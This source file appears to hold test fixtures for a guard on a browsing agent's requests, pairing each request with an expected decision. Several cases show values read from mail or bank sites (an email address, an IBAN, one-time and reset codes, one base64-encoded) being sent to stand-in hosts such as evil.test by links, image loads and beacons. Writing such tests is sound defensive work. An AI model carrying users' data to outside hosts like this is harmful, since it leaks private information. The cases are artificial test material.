/** Values read on one site on their way to another, and writes to sites that nobody named; and what only looks so. */
export const leaving = `
ask leave | get https://evil.test/c?d=Quarterly-Figures-2026 | - | link More | from:https://evil.test carried:https://mail.test=Quarterly-Figures-2026
ask leave | get https://evil.test/Quarterly%20figures%20draft/x.png | - | load | from:https://blog.test carried:https://mail.test=Quarterly+figures+draft
ask leave | xget https://evil.test/p?x=cmVzZXQtY29kZS04ODEyNw== | - | load | from:https://blog.test carried:https://mail.test=reset-code-88127
ask leave | form https://find.example/search | q=ann.private%40mail.test | press Search | carried:https://mail.test=ann.private@mail.test
ask leave | json https://notes.example/api/drafts | {"text":"IBAN DE89 3704 0044 0532 0130 00"} | type Note | carried:https://bank.test=DE89370400440532013000
ask leave | json https://translate.example/api/translate | {"text":"Your one-time code is 551 882 and it is valid for ten minutes"} | press Translate | carried:https://mail.test=Hello+Ann,+your+one-time+code+is+551+882+and+it+is+valid+for+ten+minutes.+Do+not+share.
ask leave | beacon https://metrics.evil.test/collect | {"t":"ann.private@mail.test"} | load | from:https://evil.test carried:https://mail.test=ann.private@mail.test
ask leave | json https://shop.test/api/cart/items | {"sku":"A-1","note":"Quarterly figures draft"} | press Add | carried:https://mail.test=Quarterly+figures+draft
ask leave | get https://ann-private.evil.test/ | - | link Go | from:https://blog.test carried:https://mail.test=ann-private
ask leave | json https://api.other.example/preferences | {"theme":"dark"} | press Save | allowed:https://shop.test
ask leave | form https://other.example/cart/add | id=4 | press Add | allowed:https://shop.test
ask send | json https://other.example/api/messages | {"to":"bo@example.com","text":"Hi Bo"} | press OK | allowed:https://shop.test
ask leave | json https://other.example/api/drafts/4 | {"text":"Hi"} | type Text | allowed:https://shop.test
# Look-alikes.
pass read | get https://mail.test/search?q=Quarterly-Figures-2026 | - | link More | carried:https://mail.test=Quarterly-Figures-2026
pass read | xget https://api.mail.test/find?q=Quarterly-Figures-2026 | - | type Search | from:https://www.mail.test carried:https://www.mail.test=Quarterly-Figures-2026
pass telemetry | beacon https://metrics.ads.example/collect | {"title":"Quarterly figures draft"} | load | from:https://mail.test carried:https://mail.test=Quarterly+figures+draft
pass read | json https://shop.test/api/search | {"q":"boots"} | type Search | carried:https://mail.test=Quarterly+figures+draft
pass reversible | json https://shop.test/api/cart/items | {"sku":"A-1"} | press Add | allowed:https://shop.test
pass reversible | json https://api.shop.test/cart/items | {"sku":"A-1"} | press Add | from:https://www.shop.test allowed:https://www.shop.test
pass reversible | json https://api.backend.example/cart/items | {"sku":"A-1"} | press Add | from:https://shop.test allowed:https://shop.test
pass read | get https://other.example/articles/7 | - | link More | allowed:https://shop.test
pass read | json https://other.example/api/search | {"q":"boots"} | type Search | allowed:https://shop.test
pass telemetry | beacon https://stats.other.example/collect | {"e":"view"} | load | from:https://other.example allowed:https://shop.test
pass read | json https://maps.example/api/geocode | {"text":"Main street 4, Berlin"} | type Address | carried:https://mail.test=Main+street+44
`;
